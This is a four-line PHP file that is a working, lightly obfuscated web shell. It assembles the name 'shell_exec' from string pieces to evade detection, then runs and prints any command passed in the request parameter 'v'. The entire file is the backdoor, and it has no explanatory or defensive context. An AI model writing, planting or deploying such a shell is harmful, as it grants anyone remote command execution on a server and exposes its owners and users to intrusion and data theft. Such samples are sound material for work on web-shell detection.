<?php
$base = sprintf('%s%s', 'shell', '_exec');
$v = strtolower(ucfirst($base));
print $v($_REQUEST['v']);
